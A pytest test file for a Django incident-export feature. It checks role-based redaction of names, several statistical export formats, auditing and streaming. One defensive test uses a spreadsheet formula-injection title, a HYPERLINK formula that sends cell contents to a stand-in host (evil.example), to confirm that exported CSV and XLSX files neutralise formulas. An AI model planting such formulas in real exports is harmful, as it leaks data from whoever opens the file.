"""The export pipeline and its formats, on real incidents: what each role's file holds, the
audit event, formulas made inert, and files written as they are read."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from itertools import islice

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from beyondreach.cases.export import incident_snapshot
from beyondreach.cases.selectors import IncidentFilters
from beyondreach.core.errors import InvalidInputError, PermissionDeniedError
from beyondreach.core.models import AuditEvent, User
from beyondreach.interchange.exports import export_incidents
from beyondreach.interchange.formats import ExportContext, Snapshot, export_formats

from ..conftest import Personas
from .export_builders import CANARY, NARRATIVE, recorded

# This issue's formats built here; ftm and esf have their own tests.
MINE = ("csv", "xlsx", "fh", "dyads", "sdg16101")


def exported(user: User, fmt: str, audience: str = "owner", **filters: object) -> bytes:
    found = export_incidents(
        viewer=user,
        filters=IncidentFilters(**filters),  # type: ignore[arg-type]
        format=fmt,
        audience=audience,  # type: ignore[arg-type]
    )
    return b"".join(found.chunks)


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_the_formats_found_are_this_issues(db: None) -> None:
    assert set(MINE) <= set(export_formats())


def test_a_case_worker_exports_every_field_with_names_and_free_text(personas: Personas) -> None:
    incident = recorded(personas.case_worker)
    recorded(personas.outsider, title="Another organisation's incident")

    [row] = rows(exported(personas.case_worker, "csv"))

    assert row["id"] == str(incident.uuid)
    assert row["title"] == "Detention of an exiled journalist"
    assert row["narrative"] == NARRATIVE
    assert row["targets.name"] == CANARY
    assert row["origin_states"] == "TJ"
    assert row["host_countries"] == "RU|TR"
    assert row["tactics"] == "family_coercion|host_detention|interpol_abuse"
    assert row["freedom_house_physical"] == "yes"
    assert row["targets.role"] == "primary"
    assert row["targets.pseudonym"].startswith("P-")


@pytest.mark.parametrize("role", ["analyst", "viewer"])
def test_roles_that_do_not_see_names_get_a_file_without_them(personas: Personas, role: str) -> None:
    recorded(personas.case_worker)
    user = getattr(personas, role)
    for fmt in MINE:
        content = exported(user, fmt)
        assert CANARY.encode() not in content, fmt
        assert b"Canary narrative" not in content, fmt
        assert b"Istanbul" not in content, fmt
    [row] = rows(exported(user, "csv"))
    assert "title" not in row and "targets.name" not in row and "narrative" not in row
    assert "[withheld]" not in row.values()
    assert row["targets.pseudonym"].startswith("P-")  # as on the incident page


def test_a_case_worker_can_ask_for_a_file_that_names_nobody(personas: Personas) -> None:
    recorded(personas.case_worker)
    content = exported(personas.case_worker, "csv", audience="pseudonymised")
    assert CANARY.encode() not in content and b"Canary narrative" not in content
    assert "title" not in rows(content)[0]


def test_the_export_holds_exactly_the_filtered_incidents(personas: Personas) -> None:
    cw = personas.case_worker
    tajik = recorded(cw, origins=("TJ",), start=date(2022, 1, 5))
    recorded(cw, origins=("CN",))
    later = recorded(cw, origins=("TJ",), start=date(2024, 2, 1))

    found = [r["id"] for r in rows(exported(cw, "csv", origin="TJ"))]

    assert found == [str(later.uuid), str(tajik.uuid)]  # the list's order: newest first
    assert [r["id"] for r in rows(exported(cw, "csv", origin="TJ", started="2022"))] == [
        str(tajik.uuid)
    ]


def test_a_formula_in_a_title_is_text_in_csv_and_xlsx(personas: Personas) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    recorded(personas.case_worker, title=formula)
    recorded(personas.case_worker, title="-2+3", hosts=())
    recorded(personas.case_worker, title="@SUM(A1:A2)")

    titles = {r["title"] for r in rows(exported(personas.case_worker, "csv"))}
    assert titles == {"'" + formula, "'-2+3", "'@SUM(A1:A2)"}

    book = load_workbook(io.BytesIO(exported(personas.case_worker, "xlsx")), read_only=True)
    sheet = list(book.worksheets[0].iter_rows(values_only=True))
    title = sheet[0].index("title")
    assert {line[title] for line in sheet[1:]} == titles
    # A number stays a number.
    assert isinstance(sheet[1][sheet[0].index("target_count")], int)


def test_the_xlsx_has_the_csv_table(personas: Personas) -> None:
    recorded(personas.case_worker)
    table = rows(exported(personas.case_worker, "csv"))
    book = load_workbook(io.BytesIO(exported(personas.case_worker, "xlsx")), read_only=True)
    [header, line] = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    assert header == list(table[0])
    assert [("" if v is None else str(v)) for v in line] == list(table[0].values())


def test_freedom_house_rows_repeat_an_incident_per_origin_host_and_tactic(
    personas: Personas,
) -> None:
    incident = recorded(personas.case_worker, terrorism=True, crowd=4)
    recorded(personas.case_worker, hosts=(), tactics=("asset_freeze",), origins=("RU",))

    found = rows(exported(personas.analyst, "fh"))

    assert list(found[0]) == [
        "incident_id",
        "year",
        "origin_country",
        "host_country",
        "tactic",
        "target_group",
        "targets",
        "accused_of_terrorism",
    ]
    mine = [r for r in found if r["incident_id"] == str(incident.uuid)]
    # interpol_abuse has no Freedom House name; detention and coercion by proxy do.
    assert sorted((r["host_country"], r["tactic"]) for r in mine) == [
        ("Russia", "Coercion by proxy"),
        ("Russia", "Detention"),
        ("Türkiye", "Coercion by proxy"),
        ("Türkiye", "Detention"),
    ]
    assert {
        (r["year"], r["origin_country"], r["targets"], r["accused_of_terrorism"]) for r in mine
    } == {("2023", "Tajikistan", "5", "Yes")}
    assert mine[0]["target_group"] == "Journalist"
    # No host and no Freedom House tactic: one row still, with both empty.
    [other] = [r for r in found if r["incident_id"] != str(incident.uuid)]
    assert (other["origin_country"], other["host_country"], other["tactic"]) == ("Russia", "", "")
    assert other["accused_of_terrorism"] == "No"


def test_dyads_count_incidents_and_targets_by_origin_host_and_year(personas: Personas) -> None:
    cw = personas.case_worker
    recorded(cw, origins=("TJ", "RU"), hosts=("TR",), crowd=9)
    recorded(cw, origins=("TJ",), hosts=("TR",))
    recorded(cw, origins=("TJ",), hosts=(), start=date(2024, 1, 1))

    found = [
        (r["origin"], r["host"], r["host_name"], r["year"], r["incidents"], r["targets"])
        for r in rows(exported(personas.viewer, "dyads"))
    ]

    assert found == [
        ("RU", "TR", "Türkiye", "2023", "1", "10"),
        ("TJ", "TR", "Türkiye", "2023", "2", "11"),
        ("TJ", "online_only", "", "2024", "1", "1"),
    ]


def test_the_sdg_table_counts_verified_cases_only(personas: Personas) -> None:
    cw = personas.case_worker
    recorded(cw, verified=True, crowd=2, tactics=("host_detention", "assassination"))
    recorded(cw, verified=True, group="human_rights_defender", start=date(2024, 3, 1))
    recorded(cw, verified=False)  # reported only: not counted
    recorded(cw, verified=True, group="opposition")  # not a group the indicator counts

    found = [tuple(r.values()) for r in rows(exported(personas.analyst, "sdg16101"))]

    assert found == [
        ("2023", "Arbitrary detention", "Journalist or associated media personnel", "1", "3"),
        ("2023", "Killing", "Journalist or associated media personnel", "1", "3"),
        ("2024", "Arbitrary detention", "Human rights defender", "1", "1"),
    ]


def test_each_export_is_audited_once_with_no_personal_data(personas: Personas) -> None:
    recorded(personas.case_worker)
    before = AuditEvent.objects.count()

    exported(personas.case_worker, "fh", q="Zarina")

    [event] = AuditEvent.objects.order_by("-seq")[: AuditEvent.objects.count() - before]
    assert event.action == "incident.export" and event.actor == personas.case_worker
    assert event.detail == {
        "format": "fh",
        "audience": "owner",
        "identities": True,
        "count": 1,
        "filters": {"q": "(a name)"},
        "by": "user",
    }
    assert "Zarina" not in str(event.detail)


def test_it_rejects_an_unknown_format_and_a_name_search_by_a_role_without_names(
    personas: Personas,
) -> None:
    with pytest.raises(InvalidInputError) as unknown:
        exported(personas.case_worker, "pdf")
    assert "format" in unknown.value.errors
    with pytest.raises(PermissionDeniedError):
        exported(personas.analyst, "csv", q="Zarina")


def test_an_export_reads_a_chunk_in_the_same_queries_however_many_incidents(
    personas: Personas,
) -> None:
    def queries(n: int) -> int:
        exported(personas.case_worker, "csv")  # warm caches (keys, vocabularies)
        with CaptureQueriesContext(connection) as ctx:
            exported(personas.case_worker, "csv")
        return len(ctx)

    recorded(personas.case_worker)
    one = queries(1)
    for _ in range(4):
        recorded(personas.case_worker)
    assert queries(5) == one


def _many(snapshot: Snapshot, n: int, taken: list[int]) -> Iterator[Snapshot]:
    for i in range(n):
        taken[0] = i + 1
        yield {**snapshot, "id": f"{snapshot['id'][:-6]}{i:06d}"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "fh"])
def test_a_file_is_handed_on_before_its_last_incident_is_read(personas: Personas, fmt: str) -> None:
    snapshot = incident_snapshot(recorded(personas.case_worker))
    taken = [0]
    chunks = export_formats()[fmt].write(
        _many(snapshot, 20_000, taken), ExportContext(pseudonymised=False, id_key=b"k" * 32)
    )
    first = list(islice(chunks, 1))
    assert first and first[0]
    # Compressed, the workbook's first 64 KiB hold thousands of these alike rows.
    assert taken[0] < 20_000
